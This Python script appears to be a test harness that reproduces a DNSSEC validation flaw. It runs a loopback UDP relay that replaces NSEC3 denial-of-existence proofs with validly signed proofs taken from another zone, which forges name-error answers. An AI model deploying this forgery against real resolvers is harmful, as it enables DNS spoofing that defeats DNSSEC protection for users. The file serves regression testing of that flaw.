#!/usr/bin/env python3
"""An authoritative server on the path that lies: it relays every query
for ZONE to the real authoritative server and, in a name error, swaps the
NSEC3 proof for the one DONOR (another signed zone there) gives for the same
name: NSEC3 records validly signed, by the wrong zone (hickory's
RUSTSEC-2026-0505 accepted such a proof). Neither Unbound's auth-zone nor a
signer can serve records outside their zone, hence this relay. UDP only:
the answers it forges fit in 1,232 bytes. python3's standard library only.

  forger.py PORT AUTH_PORT ZONE DONOR     (loopback; runs until killed)
"""

import socket
import struct
import sys

NSEC3, RRSIG, OPT = 50, 46, 41
# The types whose RDATA names may be compressed (RFC 3597 section 4).
NAMES_IN_RDATA = {2: "n", 5: "n", 12: "n", 6: "nn", 15: "2n"}


def read_name(msg, off):
    """(labels, offset after the name); pointers followed, at most 64."""
    labels, end, hops = [], None, 0
    while True:
        n = msg[off]
        if n & 0xC0 == 0xC0:
            hops += 1
            if hops > 64:
                raise ValueError("pointer loop")
            end = end or off + 2
            off = (n & 0x3F) << 8 | msg[off + 1]
            continue
        if n == 0:
            return labels, end or off + 1
        labels.append(bytes(msg[off + 1 : off + 1 + n]))
        off += 1 + n


def wire_name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def parse(msg):
    """Header fields, question and sections, names made whole so that the
    records can be moved between messages."""
    hid, flags, qd, an, ns, ar = struct.unpack("!6H", msg[:12])
    off, question = 12, []
    for _ in range(qd):
        name, off = read_name(msg, off)
        question.append((name, msg[off : off + 4]))
        off += 4
    sections = []
    for count in (an, ns, ar):
        rrs = []
        for _ in range(count):
            name, off = read_name(msg, off)
            rtype, _cls, _ttl, rdlen = struct.unpack("!HHIH", msg[off : off + 10])
            fixed, start = msg[off : off + 8], off + 10
            rdata = msg[start : start + rdlen]
            if rtype in NAMES_IN_RDATA:
                rdata, pos = b"", start
                for part in NAMES_IN_RDATA[rtype]:
                    if part == "n":
                        labels, pos = read_name(msg, pos)
                        rdata += wire_name(labels)
                    else:
                        rdata += msg[pos : pos + int(part)]
                        pos += int(part)
                rdata += msg[pos : start + rdlen]
            rrs.append((name, rtype, fixed, rdata))
            off = start + rdlen
        sections.append(rrs)
    return hid, flags, question, sections


def build(hid, flags, question, sections):
    out = struct.pack("!6H", hid, flags, len(question), *(len(s) for s in sections))
    for name, rest in question:
        out += wire_name(name) + rest
    for rrs in sections:
        for name, _rtype, fixed, rdata in rrs:
            out += wire_name(name) + fixed + struct.pack("!H", len(rdata)) + rdata
    return out


def ask(port, name, qtype):
    query = struct.pack("!6H", 0x4242, 0, 1, 0, 0, 1) + wire_name(name) + struct.pack("!HH", qtype, 1)
    query += b"\0" + struct.pack("!HHIH", OPT, 1232, 0x8000, 0)  # DO
    return relay(port, query)


def relay(port, query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(query, ("127.0.0.1", port))
        return s.recv(65535)


def is_nsec3_proof(rr):
    name, rtype, _fixed, rdata = rr
    return rtype == NSEC3 or (rtype == RRSIG and rdata[:2] == struct.pack("!H", NSEC3))


def forge(reply, auth_port, zone, donor):
    hid, flags, question, (an, ns, ar) = parse(reply)
    if flags & 0xF != 3 or len(question) != 1:
        return reply
    qname, rest = question[0]
    if [x.lower() for x in qname[-len(zone) :]] != zone:
        return reply
    moved = qname[: -len(zone)] + donor
    _, _, _, (_, dns, _) = parse(ask(auth_port, moved, struct.unpack("!H", rest[:2])[0]))
    ns = [rr for rr in ns if not is_nsec3_proof(rr)] + [rr for rr in dns if is_nsec3_proof(rr)]
    return build(hid, flags, question, (an, ns, ar))


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    port, auth_port = int(sys.argv[1]), int(sys.argv[2])
    zone, donor = ([label.lower().encode() for label in z.strip(".").split(".")] for z in sys.argv[3:5])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as srv:
        srv.bind(("127.0.0.1", port))
        while True:
            query, peer = srv.recvfrom(65535)
            try:
                reply = forge(relay(auth_port, query), auth_port, zone, donor)
            except (OSError, ValueError, IndexError, struct.error) as e:
                print(f"forger: {e}", file=sys.stderr)
                continue
            srv.sendto(reply, peer)


if __name__ == "__main__":
    main()
